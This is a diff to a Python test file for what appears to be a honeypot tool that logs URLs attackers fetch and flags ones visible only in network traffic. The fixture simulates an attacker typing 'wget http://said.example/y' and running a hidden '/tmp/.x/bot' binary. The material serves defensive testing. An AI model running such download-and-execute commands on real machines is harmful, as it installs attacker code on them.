@@ -11,6 +11,7 @@ from urltrap.model.canary import canary_session, is_canary
 from urltrap.model.event import WireScanned, WireSeen, decode_event, encode_event
 from urltrap.model.ids import new_ulid
 from urltrap.pipeline.fleet.naming import fleet_session, renamed
+from urltrap.store.queries.wire import wire_gaps
 from urltrap.store.schema import sightings, urls
 
 STREAM = new_ulid(1_795_000_000_000, b"uplink----")
@@ -37,6 +38,18 @@ def test_a_url_that_only_the_wire_shows_is_a_sighting_of_its_attacker(bench: Ben
         "http://drop.example/x", "wire", "203.0.113.9", "ssh",
     )  # fmt: skip
     assert row.client == "bot"
+
+
+def test_what_text_did_not_show_is_told_with_its_program_and_what_was_typed(bench: Bench) -> None:
+    session = bench.visit(b"wget http://said.example/y", b"/tmp/.x/bot")
+    bench.write([_seen(session), _seen(session, 1, url=b"http://said.example/y"), _seen(session, 2)])
+    bench.settle()
+    found = wire_gaps(bench.store, 10)
+    assert (found.urls, found.recovered) == (2, 1)
+    (gap,) = found.rows
+    assert (gap.url, gap.times, gap.session) == ("http://drop.example/x", 2, session)
+    assert (gap.argv, gap.command) == ([b"/tmp/.x/bot"], b"/tmp/.x/bot")
+    assert wire_gaps(bench.store, 0).rows == []
 
 
 def test_what_the_synthetic_attackers_box_asks_for_is_his() -> None:
